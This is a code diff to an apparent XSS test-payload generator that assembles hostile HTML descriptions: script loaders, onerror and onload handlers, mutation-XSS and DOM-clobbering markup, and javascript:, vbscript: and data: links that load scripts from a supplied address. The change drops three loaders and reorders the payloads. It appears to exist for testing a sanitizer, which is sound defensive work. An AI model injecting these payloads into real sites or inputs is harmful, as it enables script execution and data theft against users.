@@ -69,7 +69,6 @@ const TAGS = "img, svg, p, em, strong, a, details open, input autofocus, video, 
 /** Elements that load or run something, with `U` for the address and `J` for the script. */
 const LOADERS = [
   `<script>J</script>`,
-  `<ScRiPt src="U/script"></sCrIpT>`,
   `<script type=module>import "U/module"</script>`,
   `<script src=//U/script></script`,
   `<img src="U/pixel">`,
@@ -101,9 +100,7 @@ const LOADERS = [
   `<!--><img src="U/comment" onerror="J">-->`,
   `<![CDATA[><img src="U/cdata" onerror="J">]]>`,
   `<template><img src="U/template"></template><x-y is=a onclick=J>element</x-y>`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src=U/form onerror=J>`,
   `<select><template><style><!--</style><a rel="--></style></template></select><img src=U/select onerror=J>">`,
-  `<xmp><p title="</xmp><img src=U/xmp onerror=J>">`,
   `<svg><foreignObject><iframe src="U/foreign"></iframe></foreignObject></svg>`,
   `<body onload="J" background="U/body"><frameset><frame src="U/frameset"></frameset>`,
   `<input name=nodeName><img name=attributes src=U/clobbered><a id=childNodes href=U/clobber>clobber</a>`,
@@ -113,14 +110,11 @@ const LOADERS = [
 
 const SCHEMES = "javascript: JAVASCRIPT: data:text/html, vbscript: blob: file:/// // mailto: ws:".split(" ");
 
-/** Each trick once, with `U` and `J` replaced by the address and a script, in one encoding or another. */
+/** Descriptions with each trick once, in one encoding or another: as few as the popup shows at a time. */
 export function hostileDescriptions(url: string): string[] {
   const code = (index: number) => scripts(url).at(index % scripts(url).length) ?? "";
   const encode = (index: number, text: string) => ENCODINGS[index % ENCODINGS.length]?.(text) ?? text;
-  return [
-    ...LOADERS.map((loader, index) =>
-      loader.replaceAll("J", code(index).replaceAll('"', "&quot;")).replaceAll("U", url),
-    ),
+  const small = [
     ...TAGS.flatMap((tag, at) =>
       EVENTS.slice(at % 2, 4).map(
         (event, index) => `<${tag} src=x ${event}='${encode(at + index, code(at + index))}'>text`,
@@ -130,4 +124,10 @@ export function hostileDescriptions(url: string): string[] {
       [0, 3, 4].map((how) => `<em><a href='${encode(how, scheme + code(how))}' target=_top>a link</a></em>`),
     ),
   ];
+  // The loader comes last: some take all that follows as their text.
+  return LOADERS.map((loader, index) => {
+    const before = small.filter((_, at) => at % LOADERS.length === index);
+    const markup = loader.replaceAll("J", code(index).replaceAll('"', "&quot;"));
+    return before.join(" ") + markup.replaceAll("U", url);
+  });
 }
